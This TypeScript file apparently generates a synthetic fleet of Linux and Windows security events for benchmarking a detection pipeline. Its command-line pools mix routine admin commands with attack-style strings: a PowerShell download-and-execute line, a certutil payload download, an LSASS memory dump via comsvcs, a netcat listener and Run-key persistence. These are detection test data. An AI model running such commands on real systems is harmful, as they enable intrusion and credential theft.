/**
 * A deterministic fleet of Linux and Windows hosts producing events shaped like the ones ring3 ships: the Linux
 * agent's normalised events (packages/agent/src/normalise.ts: process_creation with Image, CommandLine,
 * CurrentDirectory, User, LogonId, ProcessId, ParentProcessId, ParentImage, ParentCommandLine, ParentUser; file
 * and network events with `raw.ancestry`; auditd events whose repeated keys are lists) and Sysmon records as the
 * EVTX reader emits them (process_creation with hashes, GUIDs and version info, dns_query, registry_set).
 *
 * Value cardinalities follow what a fleet looks like: a few hundred images, a few thousand command lines of
 * which a quarter carry a one-off token (temp paths, PIDs, timestamps), a third of file paths unique.
 */
import type { WireEvent } from "@ring3/protocol";

/** xorshift32: the same fleet on every run, so two benchmark runs measure the same data. */
export class Rng {
  private state: number;
  constructor(seed: number) {
    this.state = seed >>> 0 || 1;
  }
  next(): number {
    let x = this.state;
    x ^= x << 13;
    x >>>= 0;
    x ^= x >>> 17;
    x ^= x << 5;
    x >>>= 0;
    this.state = x;
    return x / 0x1_0000_0000;
  }
  int(n: number): number {
    return Math.floor(this.next() * n);
  }
  pick<T>(items: readonly T[]): T {
    return items[this.int(items.length)] as T;
  }
  hex(chars: number): string {
    let out = "";
    while (out.length < chars) out += ((this.next() * 0x1_0000_0000) >>> 0).toString(16).padStart(8, "0");
    return out.slice(0, chars);
  }
}

const LINUX_IMAGES = [
  "/usr/bin/bash",
  "/usr/bin/sh",
  "/usr/bin/dash",
  "/usr/bin/python3.12",
  "/usr/bin/perl",
  "/usr/bin/curl",
  "/usr/bin/wget",
  "/usr/bin/ssh",
  "/usr/sbin/sshd",
  "/usr/bin/sudo",
  "/usr/bin/systemctl",
  "/usr/lib/systemd/systemd",
  "/usr/bin/cron",
  "/usr/bin/apt-get",
  "/usr/bin/dpkg",
  "/usr/bin/git",
  "/usr/bin/node",
  "/usr/bin/docker",
  "/usr/bin/containerd-shim-runc-v2",
  "/usr/bin/tar",
  "/usr/bin/gzip",
  "/usr/bin/find",
  "/usr/bin/grep",
  "/usr/bin/awk",
  "/usr/bin/sed",
  "/usr/bin/cat",
  "/usr/bin/ls",
  "/usr/bin/ps",
  "/usr/bin/id",
  "/usr/bin/uname",
  "/usr/bin/chmod",
  "/usr/bin/crontab",
  "/usr/bin/nc",
  "/usr/bin/base64",
  "/usr/bin/openssl",
  "/usr/sbin/useradd",
  "/usr/bin/journalctl",
  "/usr/bin/rsync",
  "/usr/local/bin/kubelet",
  "/opt/app/bin/worker",
];
const WINDOWS_IMAGES = [
  "C:\\Windows\\System32\\cmd.exe",
  "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
  "C:\\Windows\\System32\\svchost.exe",
  "C:\\Windows\\System32\\rundll32.exe",
  "C:\\Windows\\System32\\regsvr32.exe",
  "C:\\Windows\\System32\\conhost.exe",
  "C:\\Windows\\System32\\taskhostw.exe",
  "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
  "C:\\Windows\\System32\\schtasks.exe",
  "C:\\Windows\\System32\\net.exe",
  "C:\\Windows\\System32\\net1.exe",
  "C:\\Windows\\System32\\whoami.exe",
  "C:\\Windows\\System32\\certutil.exe",
  "C:\\Windows\\System32\\mshta.exe",
  "C:\\Windows\\System32\\reg.exe",
  "C:\\Windows\\System32\\sc.exe",
  "C:\\Windows\\System32\\msiexec.exe",
  "C:\\Windows\\System32\\SearchIndexer.exe",
  "C:\\Windows\\explorer.exe",
  "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
  "C:\\Program Files\\Mozilla Firefox\\firefox.exe",
  "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
  "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
  "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
  "C:\\Program Files\\Windows Defender\\MsMpEng.exe",
  "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpCmdRun.exe",
  "C:\\Users\\Public\\Downloads\\updater.exe",
];
const LINUX_USERS = ["root", "www-data", "postgres", "deploy", "alice", "bob", "nobody", "systemd-network", "1001"];
const WINDOWS_USERS = [
  "NT AUTHORITY\\SYSTEM",
  "NT AUTHORITY\\LOCAL SERVICE",
  "NT AUTHORITY\\NETWORK SERVICE",
  "CORP\\alice",
  "CORP\\bob",
  "CORP\\svc_backup",
  "CORP\\adm_carol",
];

function linuxCommandLine(rng: Rng, image: string): string {
  const base = image.slice(image.lastIndexOf("/") + 1);
  const unique = rng.next() < 0.25;
  const token = unique ? rng.hex(12) : String(rng.int(64));
  switch (base) {
    case "bash":
    case "sh":
    case "dash":
      return rng.pick([
        `${base} -c "cd /var/www/app && ./deploy.sh --release ${token}"`,
        `${base} -c "/usr/lib/update-notifier/apt-check --human-readable 2>/dev/null | grep -c security"`,
        `${base} /etc/cron.daily/logrotate ${unique ? token : ""}`.trimEnd(),
        `${base} -c "tar czf /backup/db-${token}.tgz /var/lib/postgresql/16/main"`,
        `${base} -i`,
        `${base} -c "echo ${rng.hex(unique ? 48 : 8)} | base64 -d > /tmp/.x${token}"`,
      ]);
    case "python3.12":
      return `python3 /opt/app/manage.py ${rng.pick(["runworker", "migrate", "collectstatic --noinput", "shell"])} --settings=app.settings.prod ${unique ? `--job-id=${token}` : ""}`.trimEnd();
    case "curl":
      return `curl -fsSL https://${rng.pick(["repo.example.org", "api.github.com", "objects.githubusercontent.com", "198.51.100.23"])}/${unique ? token : "install"}.sh -o /tmp/install-${token}.sh`;
    case "ssh":
      return `ssh -o StrictHostKeyChecking=no deploy@10.0.${rng.int(4)}.${rng.int(250)} uptime`;
    case "sudo":
      return `sudo -u postgres psql -c "VACUUM ANALYZE ${unique ? `t_${token}` : "events"}"`;
    case "systemctl":
      return `systemctl ${rng.pick(["restart", "status", "is-active", "reload"])} ${rng.pick(["nginx", "postgresql", "docker", "ssh", "cron"])}.service`;
    case "find":
      return `find /var/log -name "*.gz" -mtime +${rng.int(30)} -delete`;
    case "grep":
      return `grep -E "${unique ? token : "ERROR|WARN"}" /var/log/app/app.log`;
    case "chmod":
      return `chmod +x /tmp/${unique ? token : "run"}.sh`;
    case "crontab":
      return "crontab -l";
    case "nc":
      return `nc -lvnp ${4000 + rng.int(5000)}`;
    case "base64":
      return `base64 -d /tmp/payload-${token}.b64`;
    case "docker":
      return `docker run --rm -v /srv/data:/data registry.example.org/tools/etl:${unique ? token : "1.4.2"} --batch ${rng.int(1000)}`;
    default:
      return unique
        ? `${image} --run-id ${token} --verbose`
        : `${image} ${rng.pick(["--version", "-h", "", "-v -v"])}`.trimEnd();
  }
}

function windowsCommandLine(rng: Rng, image: string): string {
  const base = image.slice(image.lastIndexOf("\\") + 1).toLowerCase();
  const unique = rng.next() < 0.25;
  const token = unique ? rng.hex(16) : String(rng.int(32));
  switch (base) {
    case "cmd.exe":
      return `"${image}" /c ${rng.pick(["whoami /all", `del /q C:\\Windows\\Temp\\${token}.tmp`, "ipconfig /all", `copy \\\\fs01\\share\\${token}.bat %TEMP%`, "net user"])}`;
    case "powershell.exe":
      return `"${image}" -NoProfile -ExecutionPolicy Bypass ${rng.pick([
        `-File C:\\ProgramData\\scripts\\inventory.ps1 -Tag ${token}`,
        `-EncodedCommand ${rng.hex(unique ? 160 : 40)}`,
        `-Command "Get-WmiObject Win32_Process | Where-Object { $_.Name -eq 'lsass.exe' }"`,
        `-Command "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.${rng.int(250)}/${token}.ps1')"`,
      ])}`;
    case "svchost.exe":
      return `C:\\Windows\\system32\\svchost.exe -k ${rng.pick(["netsvcs", "LocalServiceNetworkRestricted", "DcomLaunch", "RPCSS", "wsappx"])} -p${rng.next() < 0.5 ? ` -s ${rng.pick(["Schedule", "BITS", "gpsvc", "Winmgmt"])}` : ""}`;
    case "rundll32.exe":
      return `rundll32.exe ${rng.pick(["shell32.dll,Control_RunDLL", "C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full", `C:\\Users\\alice\\AppData\\Local\\Temp\\${token}.dll,Start`])}`;
    case "schtasks.exe":
      return `schtasks /create /tn "Updater${unique ? token : ""}" /tr "C:\\Users\\Public\\Downloads\\updater.exe" /sc onlogon /f`;
    case "certutil.exe":
      return `certutil.exe -urlcache -split -f http://198.51.100.${rng.int(250)}/${token}.exe C:\\Users\\Public\\${token}.exe`;
    case "chrome.exe":
    case "msedge.exe":
      return `"${image}" --type=renderer --field-trial-handle=${rng.int(4096)},i,${rng.hex(unique ? 20 : 4)} --lang=en-US --renderer-client-id=${rng.int(400)} --mojo-platform-channel-handle=${rng.int(9000)} /prefetch:1`;
    default:
      return unique ? `"${image}" /run ${token}` : `"${image}"`;
  }
}

export type FleetHost = {
  readonly name: string;
  readonly os: "linux" | "windows";
  /** The domain part of its users' SIDs. */
  readonly sid: number;
  nextSerial: number;
  nextPid: number;
};

export function makeFleet(hosts: number): FleetHost[] {
  return Array.from({ length: hosts }, (_, i) => ({
    name: i % 3 === 2 ? `WS-${String(i).padStart(4, "0")}.corp.example.org` : `srv-${String(i).padStart(4, "0")}`,
    os: i % 3 === 2 ? ("windows" as const) : ("linux" as const),
    sid: 1_000_000_000 + i * 7919,
    nextSerial: 0,
    nextPid: 1000 + i,
  }));
}

/**
 * One event of `host` at `timeMs`. The mix: a fifth process starts, a sixth terminations, file events,
 * network connections, then dns/registry on Windows and auditd on Linux.
 */
export function syntheticEvent(rng: Rng, host: FleetHost, timeMs: number): WireEvent {
  const id = `${host.name}-4242-${++host.nextSerial}`;
  const time = new Date(timeMs).toISOString();
  const roll = rng.next();
  const windows = host.os === "windows";
  const images = windows ? WINDOWS_IMAGES : LINUX_IMAGES;
  const users = windows ? WINDOWS_USERS : LINUX_USERS;
  const image = rng.pick(images);
  const parentImage = rng.pick(images);
  const user = rng.pick(users);
  const pid = (host.nextPid = (host.nextPid + 1 + rng.int(7)) % 4_000_000 || 300);
  const ppid = Math.max(1, pid - 1 - rng.int(500));
  const product = windows ? "windows" : "linux";
  const ancestry = [
    { pid: ppid, image: parentImage },
    { pid: 1, image: windows ? "C:\\Windows\\System32\\services.exe" : "/usr/lib/systemd/systemd" },
  ];
  if (roll < 0.2) {
    const commandLine = windows ? windowsCommandLine(rng, image) : linuxCommandLine(rng, image);
    const parentCommandLine = windows ? windowsCommandLine(rng, parentImage) : linuxCommandLine(rng, parentImage);
    const fields: Record<string, unknown> = windows
      ? {
          RuleName: "-",
          UtcTime: time.replace("T", " ").slice(0, 23),
          ProcessGuid: `{${rng.hex(8)}-${rng.hex(4)}-${rng.hex(4)}-${rng.hex(4)}-${rng.hex(12)}}`,
          ProcessId: pid,
          Image: image,
          FileVersion: "10.0.22621.1 (WinBuild.160101.0800)",
          Description: "Windows Command Processor",
          Product: "Microsoft® Windows® Operating System",
          Company: "Microsoft Corporation",
          OriginalFileName: image.slice(image.lastIndexOf("\\") + 1),
          CommandLine: commandLine,
          CurrentDirectory: "C:\\Windows\\system32\\",
          User: user,
          LogonGuid: `{${rng.hex(8)}-${rng.hex(4)}-${rng.hex(4)}-${rng.hex(4)}-${rng.hex(12)}}`,
          LogonId: `0x${rng.hex(6)}`,
          TerminalSessionId: rng.int(3),
          IntegrityLevel: rng.pick(["High", "Medium", "System"]),
          Hashes: `SHA1=${rng.hex(40).toUpperCase()},MD5=${rng.hex(32).toUpperCase()},SHA256=${rng.hex(64).toUpperCase()},IMPHASH=${rng.hex(32).toUpperCase()}`,
          ParentProcessGuid: `{${rng.hex(8)}-${rng.hex(4)}-${rng.hex(4)}-${rng.hex(4)}-${rng.hex(12)}}`,
          ParentProcessId: ppid,
          ParentImage: parentImage,
          ParentCommandLine: parentCommandLine,
          ParentUser: user,
        }
      : {
          Image: image,
          CommandLine: commandLine,
          CurrentDirectory: rng.pick(["/", "/root", "/var/www/app", "/home/deploy", "/tmp"]),
          User: user,
          LogonId: String(rng.int(2000)),
          ProcessId: pid,
          ParentProcessId: ppid,
          ParentImage: parentImage,
          ParentCommandLine: parentCommandLine,
          ParentUser: rng.pick(users),
        };
    return { id, time, host: host.name, logsource: { product, category: "process_creation" }, fields };
  }
  if (roll < 0.36) {
    return {
      id,
      time,
      host: host.name,
      logsource: { product, category: "process_termination" },
      fields: { ProcessId: pid, Image: image, User: user },
    };
  }
  if (roll < 0.66) {
    const unique = rng.next() < 0.35;
    const target = windows
      ? `C:\\Users\\${rng.pick(["alice", "bob", "Public"])}\\AppData\\Local\\Temp\\${unique ? rng.hex(10) : `tmp${rng.int(50)}`}.${rng.pick(["tmp", "dll", "ps1", "log"])}`
      : `${rng.pick(["/tmp", "/var/log/app", "/var/lib/docker/overlay2", "/etc", "/home/deploy/.ssh"])}/${unique ? rng.hex(10) : `file${rng.int(80)}`}${rng.pick([".log", "", ".conf", ".sh"])}`;
    return {
      id,
      time,
      host: host.name,
      logsource: { product, category: rng.next() < 0.85 ? "file_event" : "file_delete" },
      fields: {
        TargetFilename: target,
        ProcessId: pid,
        Image: image,
        User: user,
        ParentProcessId: ppid,
        ParentImage: parentImage,
      },
      raw: { syscall: "openat", flags: "O_WRONLY|O_CREAT", ancestry },
    };
  }
  if (roll < 0.86) {
    const internal = rng.next() < 0.6;
    return {
      id,
      time,
      host: host.name,
      logsource: { product, category: "network_connection" },
      fields: {
        Initiated: "true",
        Protocol: "tcp",
        SourceIp: `10.0.${rng.int(4)}.${rng.int(250)}`,
        SourcePort: 32768 + rng.int(28000),
        DestinationIp: internal
          ? `10.0.${rng.int(4)}.${rng.int(250)}`
          : `${rng.int(223) + 1}.${rng.int(256)}.${rng.int(256)}.${rng.int(256)}`,
        DestinationPort: rng.pick([443, 80, 22, 5432, 53, 8080, 4444]),
        ProcessId: pid,
        Image: image,
        User: user,
        ParentProcessId: ppid,
        ParentImage: parentImage,
      },
      raw: { family: "inet", state: "SYN_SENT", ancestry },
    };
  }
  if (windows) {
    if (roll < 0.93) {
      return {
        id,
        time,
        host: host.name,
        logsource: { product, category: "dns_query" },
        fields: {
          QueryName: `${rng.pick(["www", "api", "cdn", "login", rng.hex(12)])}.${rng.pick(["microsoft.com", "example.org", "googleapis.com", "duckdns.org"])}`,
          QueryStatus: "0",
          QueryResults: `::ffff:${rng.int(223) + 1}.${rng.int(256)}.${rng.int(256)}.${rng.int(256)};`,
          ProcessId: pid,
          Image: image,
          User: user,
        },
      };
    }
    return {
      id,
      time,
      host: host.name,
      logsource: { product, category: "registry_set" },
      fields: {
        EventType: "SetValue",
        TargetObject: `HKU\\S-1-5-21-${host.sid}-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\${rng.pick(["Run", "RunOnce", "Explorer\\RecentDocs", "Internet Settings"])}\\${rng.pick(["Updater", "OneDrive", "ZoneMap", rng.hex(6)])}`,
        Details: rng.pick(["DWORD (0x00000001)", `C:\\Users\\Public\\Downloads\\updater.exe`, "(Empty)"]),
        ProcessId: pid,
        Image: image,
        User: user,
      },
    };
  }
  const serial = host.nextSerial;
  return {
    id,
    time,
    host: host.name,
    logsource: { product, service: "auditd" },
    fields: {
      type: ["SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE"],
      arch: "c000003e",
      syscall: ["59", "execve"],
      success: "yes",
      exit: "0",
      pid: String(pid),
      ppid: String(ppid),
      auid: "1000",
      uid: "0",
      exe: image,
      comm: image.slice(image.lastIndexOf("/") + 1),
      key: rng.pick(["exec", "susp_activity", "identity", "(null)"]),
      argc: "3",
      a0: image,
      a1: "-c",
      a2: linuxCommandLine(rng, image),
      cwd: "/root",
      name: [image, "/lib64/ld-linux-x86-64.so.2"],
      ARCH: "x86_64",
    },
    raw: [
      `type=SYSCALL msg=audit(${(timeMs / 1000).toFixed(3)}:${serial}): arch=c000003e syscall=59 success=yes exit=0 pid=${pid} ppid=${ppid} auid=1000 uid=0 exe="${image}" key="exec"`,
      `type=EXECVE msg=audit(${(timeMs / 1000).toFixed(3)}:${serial}): argc=3 a0="${image}" a1="-c"`,
    ],
  };
}
